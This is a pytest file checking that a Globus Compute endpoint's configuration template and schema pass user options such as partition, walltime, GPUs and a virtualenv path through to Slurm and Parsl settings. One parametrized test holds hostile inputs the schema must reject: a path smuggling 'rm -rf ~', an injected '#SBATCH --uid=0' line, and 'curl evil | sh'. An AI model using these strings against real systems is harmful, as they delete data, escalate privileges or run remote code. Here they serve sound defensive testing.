"""The template for endpoints renders to a configuration that the endpoint package takes."""

from __future__ import annotations

import json
import os
import pwd
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from globus_compute_endpoint.endpoint.config import CoreEndpointConfig
from globus_compute_endpoint.endpoint.config.utils import (
    load_config_yaml,
    load_user_config_schema,
    load_user_config_template,
    render_config_user_template,
)
from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity

# Parsl leaves the sockets open with which it looks for the addresses of this computer.
pytestmark = pytest.mark.filterwarnings("ignore:Exception ignored in. <socket")

OPTIONS = {
    "partition": "gpu",
    "account": "abc123",
    "walltime_min": 95,
    "nodes": 2,
    "gpus_per_node": 4,
    "workers_per_node": 4,
    "venv": "/sw/ckptflow",
    "retries": 3,
}


@pytest.fixture
def folder(repository: Path) -> Path:
    return repository / "site_configs" / "globus_compute_endpoint"


def rendered(folder: Path, options: dict[str, Any]) -> str:
    path = folder / "user_config_template.yaml.j2"
    return render_config_user_template(
        CoreEndpointConfig(),
        load_user_config_template(path),
        path,
        MappedPosixIdentity(pwd.getpwuid(os.getuid()), "somebody", []),
        load_user_config_schema(folder / "user_config_schema.json"),
        options,
    )


@pytest.fixture
def engine(
    folder: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    request: pytest.FixtureRequest,
) -> Any:
    """The engine of the rendered configuration; its provider asks for ``sacct`` when made."""
    (tmp_path / "sacct").write_text("#!/bin/sh\n")
    (tmp_path / "sacct").chmod(0o700)
    monkeypatch.setenv("PATH", str(tmp_path), prepend=":")
    options = getattr(request, "param", OPTIONS)
    config = load_config_yaml(rendered(folder, options))
    assert config.idle_heartbeats_soft == 120
    return config.engine


def test_what_a_user_chooses_reaches_slurm(engine: Any) -> None:
    provider = engine.executor.provider
    assert (provider.partition, provider.account) == ("gpu", "abc123")
    assert (provider.nodes_per_block, provider.gpus_per_node) == (2, 4)
    assert provider.walltime == "01:35:00"
    assert engine.max_workers_per_node == 4
    assert engine.executor.available_accelerators == ["0", "1", "2", "3"]
    assert engine.max_retries_on_system_failure == 3


def test_tasks_are_told_of_the_end_and_take_part_in_it(engine: Any) -> None:
    provider = engine.executor.provider
    asked = provider.scheduler_options.splitlines()  # Parsl adds its own.
    assert asked[:2] == ["#SBATCH --no-requeue", "#SBATCH --signal=USR2@120"]
    first, second, third = provider.worker_init.strip().splitlines()
    assert first == "trap '' USR1 USR2"
    assert second == "export CKPTFLOW_ENDS_AT=$(( $(date +%s) + 5700 ))"
    assert third == '. "/sw/ckptflow"/bin/activate'
    assert engine.executor.drain_period == 95 * 60 - 120


@pytest.mark.parametrize("engine", [{}], indirect=True)
def test_nothing_has_to_be_chosen(engine: Any) -> None:
    provider = engine.executor.provider
    assert provider.partition is None
    assert provider.walltime == "01:00:00"
    assert '. "$HOME/ckptflow"/bin/activate' in provider.worker_init
    assert engine.max_retries_on_system_failure == 1


@pytest.mark.parametrize(
    ("option", "value", "why"),
    [
        ("venv", "/sw/$(rm -rf ~)", "does not match"),
        ("partition", "a\n#SBATCH --uid=0", "does not match"),
        ("walltime_min", "60", "is not of type 'integer'"),
        ("worker_init", "curl evil | sh", "'worker_init' was unexpected"),
    ],
)
def test_what_a_user_may_not_choose_is_refused(
    folder: Path, option: str, value: object, why: str
) -> None:
    with pytest.raises(jsonschema.ValidationError, match=why):
        rendered(folder, {option: value})


def test_the_schema_knows_what_the_template_uses(folder: Path) -> None:
    schema = json.loads((folder / "user_config_schema.json").read_text())
    text = (folder / "user_config_template.yaml.j2").read_text()
    assert [name for name in schema["properties"] if name not in text] == []
